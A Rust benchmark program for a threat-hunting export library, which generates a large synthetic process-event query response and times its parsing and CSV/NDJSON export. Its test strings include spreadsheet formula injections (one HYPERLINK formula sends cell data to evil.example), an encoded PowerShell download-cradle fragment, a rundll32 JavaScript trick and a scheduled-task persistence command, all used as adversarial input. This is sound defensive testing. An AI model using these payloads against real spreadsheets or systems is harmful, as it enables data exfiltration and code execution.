//! Times parse + export of a large, adversarial, DeviceProcessEvents-like
//! response generated in memory (no fixtures), and reports throughput and
//! peak memory.
//!
//! Run: `cargo run --release --example bench_export [rows]` (default
//! 100,000 rows of 45 columns).
//!
//! `-- --write PATH` only writes the generated body to PATH (the browser
//! benchmark, tests/bench/export.mjs, reads that file); `-- --read PATH`
//! times a body from a file instead of generating one, so the process's
//! peak RSS holds no generator buffers.

use std::alloc::{GlobalAlloc, Layout, System};
use std::io::{self, Write};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Instant;

use huntkit::export::{CsvExport, CsvOptions, NdjsonExport};
use huntkit::result::QueryResult;

/// Counts live and peak heap bytes, to check the memory budget.
struct Counting;

static LIVE: AtomicUsize = AtomicUsize::new(0);
static PEAK: AtomicUsize = AtomicUsize::new(0);

unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        // SAFETY: forwards to the system allocator with the same layout.
        let ptr = unsafe { System.alloc(layout) };
        if !ptr.is_null() {
            let live = LIVE.fetch_add(layout.size(), Ordering::Relaxed) + layout.size();
            PEAK.fetch_max(live, Ordering::Relaxed);
        }
        ptr
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        // SAFETY: `ptr` came from `alloc` above with this layout.
        unsafe { System.dealloc(ptr, layout) };
        LIVE.fetch_sub(layout.size(), Ordering::Relaxed);
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        // SAFETY: same contract as `GlobalAlloc::realloc`.
        let new = unsafe { System.realloc(ptr, layout, new_size) };
        if !new.is_null() {
            LIVE.fetch_sub(layout.size(), Ordering::Relaxed);
            let live = LIVE.fetch_add(new_size, Ordering::Relaxed) + new_size;
            PEAK.fetch_max(live, Ordering::Relaxed);
        }
        new
    }
}

#[global_allocator]
static ALLOCATOR: Counting = Counting;

/// A writer that only counts, standing in for the download stream.
struct Sink(u64);

impl Write for Sink {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.0 += buf.len() as u64;
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// xorshift64*: deterministic and dependency-free.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }

    fn hex(&mut self, out: &mut String, len: usize) {
        for _ in 0..len {
            out.push(char::from(b"0123456789abcdef"[self.below(16) as usize]));
        }
    }
}

#[derive(Clone, Copy)]
enum Kind {
    Time,
    Hex(usize),
    Word(&'static [&'static str]),
    Path,
    CommandLine,
    Int,
    BigInt,
    SByte,
    JsonInString,
    Dynamic,
    Empty,
}

const COLUMNS: [(&str, &str, Kind); 45] = {
    use Kind::*;
    const DEVICES: &[&str] = &[
        "ws-0042.contoso.com",
        "srv-sql01",
        "laptop-ünïcødé",
        "pc-中文-01",
    ];
    const ACTIONS: &[&str] = &["ProcessCreated", "OpenProcessApiCall"];
    const FILES: &[&str] = &[
        "powershell.exe",
        "cmd.exe",
        "svchost.exe",
        "rundll32.exe",
        "файл.exe",
        "😀.exe",
    ];
    const LEVELS: &[&str] = &["System", "High", "Medium", "Low"];
    const ELEVATION: &[&str] = &[
        "TokenElevationTypeDefault",
        "TokenElevationTypeFull",
        "None",
    ];
    const DOMAINS: &[&str] = &["nt authority", "CONTOSO", "עברית", "=cmd|' /C calc'!A0"];
    const USERS: &[&str] = &["system", "alice", "bob \"the admin\"", "@evil", "-2+3"];
    const COMPANIES: &[&str] = &[
        "Microsoft Corporation",
        "",
        "Acme, Inc.",
        "Ｆｕｌｌｗｉｄｔｈ",
    ];
    [
        ("Timestamp", "DateTime", Time),
        ("DeviceId", "String", Hex(40)),
        ("DeviceName", "String", Word(DEVICES)),
        ("ActionType", "String", Word(ACTIONS)),
        ("FileName", "String", Word(FILES)),
        ("FolderPath", "String", Path),
        ("SHA1", "String", Hex(40)),
        ("SHA256", "String", Hex(64)),
        ("MD5", "String", Hex(32)),
        ("FileSize", "Int64", Int),
        ("ProcessVersionInfoCompanyName", "String", Word(COMPANIES)),
        ("ProcessVersionInfoProductName", "String", Empty),
        ("ProcessVersionInfoProductVersion", "String", Empty),
        ("ProcessId", "Int64", Int),
        ("ProcessCommandLine", "String", CommandLine),
        ("ProcessIntegrityLevel", "String", Word(LEVELS)),
        ("ProcessTokenElevation", "String", Word(ELEVATION)),
        ("ProcessCreationTime", "DateTime", Time),
        ("AccountDomain", "String", Word(DOMAINS)),
        ("AccountName", "String", Word(USERS)),
        (
            "AccountSid",
            "String",
            Word(&["S-1-5-18", "S-1-5-21-1004336348-1177238915-682003330-512"]),
        ),
        ("AccountUpn", "String", Empty),
        ("AccountObjectId", "String", Empty),
        ("LogonId", "Int64", BigInt),
        ("InitiatingProcessAccountDomain", "String", Word(DOMAINS)),
        ("InitiatingProcessAccountName", "String", Word(USERS)),
        (
            "InitiatingProcessAccountSid",
            "String",
            Word(&["S-1-5-18", "S-1-5-19"]),
        ),
        ("InitiatingProcessLogonId", "Int64", BigInt),
        ("InitiatingProcessIntegrityLevel", "String", Word(LEVELS)),
        ("InitiatingProcessSHA1", "String", Hex(40)),
        ("InitiatingProcessSHA256", "String", Hex(64)),
        ("InitiatingProcessMD5", "String", Hex(32)),
        ("InitiatingProcessFileName", "String", Word(FILES)),
        ("InitiatingProcessFileSize", "Int64", Int),
        ("InitiatingProcessId", "Int64", Int),
        ("InitiatingProcessCommandLine", "String", CommandLine),
        ("InitiatingProcessCreationTime", "DateTime", Time),
        ("InitiatingProcessFolderPath", "String", Path),
        ("InitiatingProcessParentId", "Int64", Int),
        ("InitiatingProcessParentFileName", "String", Word(FILES)),
        ("ReportId", "Int64", BigInt),
        ("AdditionalFields", "String", JsonInString),
        ("IsProcessRemoteSession", "Boolean", SByte),
        ("ProcessRemoteSessionDeviceName", "Dynamic", Dynamic),
        ("LogonID", "Int64", BigInt),
    ]
};

const COMMAND_PARTS: &[&str] = &[
    "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "cmd.exe /c \"echo a,b;c > \\\\?\\C:\\temp\\out.txt\"",
    "=HYPERLINK(\"http://evil.example/?q=\"&A1)",
    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert('x')",
    "line one\r\nline two\ttabbed",
    "schtasks /create /tn \"Update\" /tr \"C:\\Users\\Public\\a.exe\" /sc minute",
    "echo 日本語 العربية 😀👩‍👩‍👧 \u{202e}gpj.exe",
    "\"C:\\Program Files\\App\\app.exe\" --flag=\"x \"\"quoted\"\" y\"",
];

fn push_json_string(out: &mut String, text: &str) {
    out.push_str(&serde_json::to_string(text).unwrap_or_default());
}

fn generate(rows: usize) -> Vec<u8> {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut out = String::with_capacity(rows * 2_600);
    out.push_str(r#"{"Quota":{"QueryCpuUsage":12,"CpuLoad":3,"ExecutionTime":"00:00:09.1144704","TotalCpuTime":"00:01:00"},"ChartVisualization":{"ChartType":"None"},"Schema":["#);
    for (i, (name, type_name, _)) in COLUMNS.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&format!(
            r#"{{"Name":"{name}","Type":"{type_name}","Entity":null}}"#
        ));
    }
    out.push_str(r#"],"Results":["#);
    let mut value = String::new();
    for row in 0..rows {
        out.push_str(if row == 0 { "{" } else { ",{" });
        for (i, (name, _, kind)) in COLUMNS.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push('"');
            out.push_str(name);
            out.push_str("\":");
            value.clear();
            match kind {
                Kind::Time => {
                    let s = rng.below(60);
                    let frac = rng.below(10_000_000);
                    value.push_str(&format!("\"2024-10-26T08:39:{s:02}.{frac:07}Z\""));
                }
                Kind::Hex(len) => {
                    value.push('"');
                    rng.hex(&mut value, *len);
                    value.push('"');
                }
                Kind::Word(words) => push_json_string(&mut value, rng.pick(words)),
                Kind::Path => {
                    let path = format!(
                        r"C:\Windows\System32\{}\{}",
                        rng.below(1000),
                        rng.pick(&["a b", "c,d", "e\"f", "ü"])
                    );
                    push_json_string(&mut value, &path);
                }
                Kind::CommandLine => push_json_string(&mut value, rng.pick(COMMAND_PARTS)),
                Kind::Int => value.push_str(&rng.below(100_000).to_string()),
                Kind::BigInt => value.push_str(&match rng.below(4) {
                    0 => "9223372036854775807".to_string(),
                    1 => "null".to_string(),
                    _ => (rng.next() >> 1).to_string(),
                }),
                Kind::SByte => value.push_str(if rng.below(2) == 0 { "0" } else { "1" }),
                Kind::JsonInString => push_json_string(
                    &mut value,
                    r#"{"ProcessStartTimestamp":"2024-10-26T08:39:36.8200123Z","Inner":"{\"x\":1}"}"#,
                ),
                Kind::Dynamic => value.push_str(if rng.below(2) == 0 {
                    r#"{"Name": "rdp-host", "Ports": [3389, 443], "Nested": {"a": null}}"#
                } else {
                    "null"
                }),
                Kind::Empty => value.push_str("\"\""),
            }
            out.push_str(&value);
        }
        out.push('}');
    }
    out.push_str("]}");
    out.into_bytes()
}

fn mb(bytes: usize) -> f64 {
    bytes as f64 / 1_000_000.0
}

/// The command line: a row count, `--write PATH` or `--read PATH`.
struct Args {
    rows: usize,
    write: Option<String>,
    read: Option<String>,
}

fn args() -> Result<Args, String> {
    let mut args = Args {
        rows: 100_000,
        write: None,
        read: None,
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--write" => args.write = Some(it.next().ok_or("--write needs a path")?),
            "--read" => args.read = Some(it.next().ok_or("--read needs a path")?),
            rows => {
                args.rows = rows
                    .parse()
                    .map_err(|_| format!("not a row count or option: {rows:?}"))?
            }
        }
    }
    Ok(args)
}

/// The process's peak resident set (`VmHWM`), where Linux reports it.
fn peak_rss() -> Option<usize> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    let kib: usize = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kib * 1024)
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let args = args()?;
    if let Some(path) = &args.write {
        if let Some(dir) = std::path::Path::new(path).parent() {
            std::fs::create_dir_all(dir)?;
        }
        let body = generate(args.rows);
        std::fs::write(path, &body)?;
        println!(
            "wrote {path}: {} rows x {} columns, {} bytes",
            args.rows,
            COLUMNS.len(),
            body.len()
        );
        return Ok(());
    }
    let body = match &args.read {
        Some(path) => std::fs::read(path)?,
        None => generate(args.rows),
    };
    let size = body.len();
    println!(
        "response: {} x {} columns, {:.1} MB",
        match &args.read {
            Some(path) => path.clone(),
            None => format!("{} rows", args.rows),
        },
        COLUMNS.len(),
        mb(size)
    );

    let base = LIVE.load(Ordering::Relaxed);
    PEAK.store(base, Ordering::Relaxed);
    let start = Instant::now();
    let result = QueryResult::from_body(body)?;
    let parsed = start.elapsed();
    // The machine preset, as the wasm `exportResult` writes CSV by default.
    let mut csv = CsvExport::new(Sink(0), CsvOptions::machine(), result.columns())?;
    csv.write_result(&result)?;
    let csv_bytes = csv.finish()?.0;
    let total = start.elapsed();
    let peak = PEAK.load(Ordering::Relaxed).saturating_sub(base) + size;
    println!(
        "parse: {:.0} ms ({:.0} MB/s); parse + csv: {:.0} ms ({:.0} MB/s of response); csv out {:.1} MB",
        parsed.as_secs_f64() * 1e3,
        mb(size) / parsed.as_secs_f64(),
        total.as_secs_f64() * 1e3,
        mb(size) / total.as_secs_f64(),
        csv_bytes as f64 / 1e6
    );
    println!(
        "peak heap during parse + csv: {:.1} MB ({:.2}x the response)",
        mb(peak),
        peak as f64 / size as f64
    );

    let start = Instant::now();
    let mut csv = CsvExport::new(Sink(0), CsvOptions::excel(), result.columns())?;
    csv.write_result(&result)?;
    let excel_bytes = csv.finish()?.0;
    let secs = start.elapsed().as_secs_f64();
    println!(
        "csv alone, excel preset (BOM, formulas neutralized): {:.0} ms ({:.0} MB/s), out {:.1} MB",
        secs * 1e3,
        mb(size) / secs,
        excel_bytes as f64 / 1e6
    );

    let start = Instant::now();
    let mut nd = NdjsonExport::new(Sink(0))?;
    nd.write_result(&result)?;
    let nd_bytes = nd.finish()?.0;
    let secs = start.elapsed().as_secs_f64();
    println!(
        "ndjson export alone: {:.0} ms ({:.0} MB/s), out {:.1} MB",
        secs * 1e3,
        mb(size) / secs,
        nd_bytes as f64 / 1e6
    );
    if let Some(rss) = peak_rss() {
        println!(
            "process peak RSS (VmHWM): {:.1} MB ({:.2}x the response)",
            mb(rss),
            rss as f64 / size as f64
        );
    }
    if args.read.is_none() {
        assert_eq!(result.row_count(), args.rows);
    }
    Ok(())
}
